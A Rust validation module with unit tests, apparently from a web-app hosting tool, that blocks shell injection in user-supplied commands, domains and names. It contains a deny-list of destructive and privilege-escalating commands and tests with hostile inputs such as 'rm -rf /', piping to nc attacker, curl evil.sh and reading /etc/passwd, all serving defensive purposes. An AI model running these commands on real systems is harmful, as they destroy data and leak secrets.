// src/validate.rs
//
// 🛡️ Every string that can reach a shell, a unit file or a vhost passes through
// one of these functions before any side effect happens.

use std::sync::LazyLock;

use regex::Regex;

use crate::error::{Error, Result};
use crate::model::service::RESERVED_COMMAND_NAMES;

static SITE_NAME: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"^[a-z][a-z0-9-]{1,23}$").expect("valid regex"));
static SERVICE_NAME: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"^[a-z][a-z0-9_-]{0,31}$").expect("valid regex"));
static DATABASE_NAME: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"^[a-z][a-z0-9_]{1,62}$").expect("valid regex"));
static ENV_KEY: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"^[A-Za-z_][A-Za-z0-9_]{0,127}$").expect("valid regex"));
static DOMAIN: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"^(?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?\.)+[a-z][a-z0-9-]{0,61}[a-z0-9]$").expect("valid regex")
});

/// Destructive or privilege-escalating fragments, matched case-insensitively.
static FORBIDDEN_COMMAND_PATTERNS: LazyLock<Vec<(Regex, &'static str)>> = LazyLock::new(|| {
    [
        (r"[;&|`<>\\\r\n]", "shell metacharacter"),
        (r"\$\(", "command substitution"),
        (r"\.\.", "path traversal"),
        (r"(?i)\b(sudo|su|doas|pkexec|runuser|setuid)\b", "privilege escalation"),
        (r"(?i)\b(chmod|chown|chgrp|setfacl)\b", "permission change"),
        (r"(?i)\brm\s+-[a-z]*[rf]", "recursive delete"),
        (r"(?i)\b(mkfs(\.\w+)?|dd|fdisk|parted|shred)\b", "disk operation"),
        (r"(?i)\b(shutdown|reboot|halt|poweroff)\b", "system power control"),
        (r"(?i)\b(useradd|userdel|usermod|passwd|visudo)\b", "account management"),
        (r"(?i)\b(systemctl|crontab|iptables|nft)\b", "system administration"),
        (r"(?i)(^|\s)/(etc|dev|proc|sys|root|boot)(/|\s|$)", "system path"),
    ]
    .into_iter()
    .map(|(pattern, reason)| (Regex::new(pattern).expect("valid regex"), reason))
    .collect()
});

/// Interpreters and tools a command may start with.
const ALLOWED_COMMAND_PREFIXES: &[&str] = &[
    "node", "npm", "npx", "yarn", "pnpm", "bun", "deno", "python", "python3", "pip", "pip3", "gunicorn", "uvicorn",
    "php", "composer", "ruby", "bundle", "rails", "rake", "java", "go", "cargo", "dotnet", "make",
];

pub fn validate_site_name(name: &str) -> Result<()> {
    if !SITE_NAME.is_match(name) || name.ends_with('-') {
        return Err(Error::validation(format!(
            "invalid site name '{}': 2-24 chars, lowercase letters, digits and '-', starting with a letter",
            name
        )));
    }
    Ok(())
}

pub fn validate_service_name(name: &str) -> Result<()> {
    if !SERVICE_NAME.is_match(name) {
        return Err(Error::validation(format!(
            "invalid service name '{}': 1-32 chars, lowercase letters, digits, '-' and '_', starting with a letter",
            name
        )));
    }
    Ok(())
}

pub fn validate_custom_command_name(name: &str) -> Result<()> {
    if RESERVED_COMMAND_NAMES.contains(&name) {
        return Err(Error::validation(format!("'{}' is a reserved command name", name)));
    }
    validate_service_name(name).map_err(|_| Error::validation(format!("invalid custom command name '{}'", name)))
}

pub fn validate_database_name(name: &str) -> Result<()> {
    if !DATABASE_NAME.is_match(name) {
        return Err(Error::validation(format!(
            "invalid database name '{}': 2-63 chars, lowercase letters, digits and '_', starting with a letter",
            name
        )));
    }
    Ok(())
}

/// Two-layer filter: no forbidden fragment may match AND the first token must
/// be an allowed interpreter or a `./` local script.
pub fn validate_command(command: &str) -> Result<()> {
    let trimmed = command.trim();
    if trimmed.is_empty() {
        return Err(Error::validation("command cannot be empty"));
    }
    if trimmed.len() > 1024 {
        return Err(Error::validation("command is longer than 1024 characters"));
    }

    for (pattern, reason) in FORBIDDEN_COMMAND_PATTERNS.iter() {
        if pattern.is_match(trimmed) {
            return Err(Error::validation(format!("command rejected ({}): '{}'", reason, command)));
        }
    }

    let program = trimmed.split_whitespace().next().unwrap_or_default();
    let allowed = ALLOWED_COMMAND_PREFIXES.contains(&program)
        || (program.starts_with("./") && program.len() > 2);
    if !allowed {
        return Err(Error::validation(format!(
            "command must start with an allowed runtime or a ./ script, got '{}'",
            program
        )));
    }
    Ok(())
}

/// Validates and lowercases a hostname.
pub fn validate_domain(domain: &str) -> Result<String> {
    if domain.is_empty() {
        return Err(Error::validation("domain cannot be empty"));
    }
    if domain.contains("..") {
        return Err(Error::validation(format!("domain '{}' contains a double dot", domain)));
    }
    if domain.contains(';') || domain.contains('|') {
        return Err(Error::validation(format!("domain '{}' contains a forbidden character", domain)));
    }
    if domain.chars().any(char::is_whitespace) {
        return Err(Error::validation(format!("domain '{}' contains whitespace", domain)));
    }

    let normalized = domain.to_ascii_lowercase();
    if normalized.len() > 253 || !DOMAIN.is_match(&normalized) {
        return Err(Error::validation(format!("'{}' is not a valid domain name", domain)));
    }
    Ok(normalized)
}

pub fn validate_env_var(key: &str, value: &str) -> Result<()> {
    if !ENV_KEY.is_match(key) {
        return Err(Error::validation(format!("invalid environment variable name '{}'", key)));
    }
    if value.contains('\n') || value.contains('\r') || value.contains('\0') {
        return Err(Error::validation(format!("environment variable '{}' contains a line break", key)));
    }
    Ok(())
}

/// OS account names handed to useradd/chown/runuser.
pub fn validate_os_username(username: &str) -> Result<()> {
    let valid = !username.is_empty()
        && username.len() <= 32
        && !username.starts_with('-')
        && username.chars().all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-' || c == '_');
    if !valid {
        return Err(Error::validation(format!("invalid OS username '{}'", username)));
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn site_names() {
        assert!(validate_site_name("demo1").is_ok());
        assert!(validate_site_name("my-shop").is_ok());
        assert!(validate_site_name("a").is_err());
        assert!(validate_site_name("1demo").is_err());
        assert!(validate_site_name("Demo").is_err());
        assert!(validate_site_name("demo-").is_err());
        assert!(validate_site_name("demo_1").is_err());
        assert!(validate_site_name(&"a".repeat(25)).is_err());
        assert!(validate_site_name(&"a".repeat(24)).is_ok());
    }

    #[test]
    fn service_names() {
        assert!(validate_service_name("api").is_ok());
        assert!(validate_service_name("web_worker-2").is_ok());
        assert!(validate_service_name("api;rm").is_err());
        assert!(validate_service_name("").is_err());
    }

    #[test]
    fn reserved_custom_names() {
        for name in RESERVED_COMMAND_NAMES {
            assert!(validate_custom_command_name(name).is_err(), "{} should be reserved", name);
        }
        assert!(validate_custom_command_name("migrate").is_ok());
    }

    #[test]
    fn commands_accepted() {
        for cmd in [
            "npm start",
            "node server.js --port $PORT",
            "python3 -m http.server 10000",
            "./bin/server",
            "gunicorn app:app -b 127.0.0.1:10001",
            "npm run build",
        ] {
            assert!(validate_command(cmd).is_ok(), "{} should be accepted", cmd);
        }
    }

    #[test]
    fn commands_rejected() {
        for cmd in [
            "npm start; rm -rf /",
            "sudo npm start",
            "npm start && curl evil.sh",
            "node app.js | nc attacker 1",
            "node $(cat /etc/passwd)",
            "node `id`",
            "node ../../app.js",
            "bash -c 'node app.js'",
            "rm -rf /",
            "npm start > /dev/null",
            "node app.js\nreboot",
            "python3 -c 'import os' /etc/shadow",
            "",
            "./",
        ] {
            assert!(validate_command(cmd).is_err(), "{:?} should be rejected", cmd);
        }
    }

    #[test]
    fn blacklist_alone_is_not_enough() {
        // no forbidden fragment, but not an allowed runtime
        assert!(validate_command("perl server.pl").is_err());
    }

    #[test]
    fn whitelist_alone_is_not_enough() {
        // allowed prefix, forbidden fragment
        assert!(validate_command("npm exec chmod 777 x").is_err());
        assert!(validate_command("node service.js").is_ok());
    }

    #[test]
    fn domains_are_normalized() {
        assert_eq!(validate_domain("Example.COM").unwrap(), "example.com");
        assert_eq!(validate_domain("api.my-site.io").unwrap(), "api.my-site.io");
    }

    #[test]
    fn domains_rejected() {
        let err = validate_domain("bad..example.com").unwrap_err();
        assert!(err.to_string().contains("double dot"));
        for bad in [
            "example.com;",
            "a|b.com",
            "exa mple.com",
            "example.com\n",
            "\texample.com",
            "-example.com",
            "example",
            "example.com/",
            "",
            "exa_mple.com",
        ] {
            assert!(validate_domain(bad).is_err(), "{:?} should be rejected", bad);
        }
    }

    #[test]
    fn env_vars() {
        assert!(validate_env_var("NODE_ENV", "production").is_ok());
        assert!(validate_env_var("1BAD", "x").is_err());
        assert!(validate_env_var("KEY", "a\nb").is_err());
    }

    #[test]
    fn os_usernames() {
        assert!(validate_os_username("twoine_demo1").is_ok());
        assert!(validate_os_username("-rf").is_err());
        assert!(validate_os_username("root;id").is_err());
    }
}
